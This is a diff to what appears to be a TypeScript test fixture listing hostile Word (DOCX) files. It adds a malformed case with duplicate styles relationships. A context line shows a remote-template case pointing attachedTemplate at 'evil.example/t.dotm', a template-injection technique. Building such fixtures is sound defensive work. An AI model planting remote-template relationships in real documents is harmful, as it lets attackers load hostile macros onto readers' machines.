@@ -106,6 +106,12 @@ export const hostileFiles: readonly HostileFile[] = [
       '<Relationship Id="rIdY" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/numbering" Target="b.xml"/></Relationships>',
     ),
   ),
+  replaced('two parts of styles, of which programs show another', ['corrupt'], 'word/_rels/document.xml.rels', () =>
+    relation('styles', 'a.xml', '').replace(
+      '</Relationships>',
+      '<Relationship Id="rIdY" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="b.xml"/></Relationships>',
+    ),
+  ),
   replaced('a template from the web', ['external-content'], 'word/_rels/document.xml.rels', () =>
     relation('attachedTemplate', 'https://evil.example/t.dotm'),
   ),
